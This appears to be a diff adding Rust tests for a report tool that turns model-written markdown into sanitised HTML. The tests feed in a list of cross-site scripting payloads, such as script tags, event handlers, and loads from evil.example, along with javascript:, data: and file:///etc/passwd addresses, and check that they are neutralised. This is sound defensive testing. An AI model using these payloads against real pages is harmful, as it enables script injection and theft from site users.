@@ -1,0 +1,137 @@
+//! Reports: pages that can be opened whatever a model wrote.
+
+use roundtable::tool::{
+    ToolSettings,
+    report::{render, report},
+};
+use serde_json::json;
+
+use super::{Tools, place};
+
+#[test]
+fn markdown_becomes_html() {
+    let html = render(
+        "## Result\n\n| a | b |\n| --- | --- |\n| 1<br>2 | `x < y` |\n\n- [x] done\n\n[more](https://example.org/?a=1&b=2)",
+    );
+    for part in [
+        "<h2>Result</h2>",
+        "<td>1<br />\n2</td><td><code>x &lt; y</code></td>",
+        "<input disabled=\"\" type=\"checkbox\" checked=\"\"/>",
+        "<a href=\"https://example.org/?a=1&amp;b=2\">more</a>",
+    ] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+}
+
+#[test]
+fn nothing_that_runs_or_loads_comes_through() {
+    for hostile in [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "text <script>alert(1)</script> text",
+        "<img src=x onerror=alert(1)>",
+        "a <img src=x onerror=alert(1)> b",
+        "<div onclick=\"alert(1)\">x</div>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<svg/onload=alert(1)>",
+        "<style>@import 'https://evil.example/x.css'</style>",
+        "<base href=\"https://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        "<!-- --><script>alert(1)</script>",
+        "<!--><script>alert(1)</script>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<?php <script>alert(1)</script> ?>",
+        "- <details open ontoggle=alert(1)>",
+        "# <a href=x onclick=alert(1)>x</a>",
+        "`<script>`\n\n    <script>alert(1)</script>\n",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "[^1]\n\n[^1]: <script>alert(1)</script>",
+        "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
+        "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
+        "[x](https://a.example \"\\\" onclick=alert(1) \")",
+        "![\" onerror=alert(1) \"](data:image/png;base64,AAAA)",
+        "<https://a.example/\"onclick=alert(1)>",
+    ] {
+        let html = render(hostile);
+        let tags: Vec<&str> = html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect();
+        for tag in &tags {
+            let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '/').collect();
+            let name = name.trim_matches('/');
+            const WRITTEN: [&str; 21] = [
+                "p",
+                "a",
+                "h1",
+                "ul",
+                "li",
+                "code",
+                "pre",
+                "table",
+                "thead",
+                "tbody",
+                "tr",
+                "th",
+                "td",
+                "sup",
+                "div",
+                "img",
+                "br",
+                "em",
+                "strong",
+                "hr",
+                "blockquote",
+            ];
+            assert!(WRITTEN.contains(&name), "{hostile} has <{tag}>: {html}");
+            // Outside of quoted values there is no handler.
+            let outside: String = tag.split('"').step_by(2).collect();
+            assert!(!outside.to_lowercase().contains(" on"), "{hostile} has <{tag}>");
+        }
+    }
+}
+
+#[test]
+fn addresses_are_of_few_kinds() {
+    for address in [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "&#106;avascript:alert(1)",
+        "java\u{0}script:alert(1)",
+        "vbscript:x",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "file:///etc/passwd",
+        "//evil.example",
+        "/api/v1/sessions",
+        "\u{1}javascript:alert(1)",
+    ] {
+        let html = render(&format!("[x](<{address}>) and ![x](<{address}>)"));
+        assert!(html.contains("href=\"\"") && html.contains("src=\"\""), "{address}: {html}");
+        let reference = render(&format!("[x]\n\n[x]: <{address}>"));
+        assert!(reference.contains("href=\"\""), "{address}: {reference}");
+    }
+    assert!(render("<javascript:alert(1)>").contains("href=\"\""));
+    for picture in ["https://evil.example/?what=I+know", "data:image/svg+xml;base64,AAAA"] {
+        assert!(render(&format!("![x]({picture})")).contains("src=\"\""), "{picture}");
+    }
+    assert!(render("![x](data:image/png;base64,AAAA)").contains("src=\"data:image/png;base64,AAAA\""));
+    assert!(render("<ann@example.org>").contains("href=\"mailto:ann@example.org\""));
+    assert!(render("[x](#part)").contains("href=\"#part\""));
+}
+
+#[test]
+fn a_title_is_text_in_both_forms() {
+    let made = report("A </title><script>\nalert(1)", "Body.");
+    assert_eq!(made.markdown, "# A </title><script> alert(1)\n\nBody.\n");
+    assert!(made.html.contains("<title>A &lt;/title&gt;&lt;script&gt; alert(1)</title>"), "{}", made.html);
+    assert!(made.html.contains("default-src 'none'") && !made.html.contains("<script"), "{}", made.html);
+}
+
+#[tokio::test]
+async fn the_tool_gives_both_forms_and_has_its_bounds() {
+    let tools = Tools::of(&ToolSettings::default()).await;
+    let call = async |arguments| tools.call(&place(&[]), "report", arguments).await;
+    let text = call(json!({ "title": "T", "markdown": "*x*" })).await.expect("is answered");
+    assert!(text.starts_with("report.md:\n\n# T\n\n*x*\n") && text.contains("<p><em>x</em></p>"), "{text}");
+    let large = call(json!({ "title": "T", "markdown": "x".repeat(2 << 20) })).await.expect_err("is too much");
+    assert_eq!(large.code, "too_large");
+    // Nesting that deep makes some renderers run out of stack.
+    call(json!({ "title": "T", "markdown": ">".repeat(100_000) })).await.expect("is answered");
+}
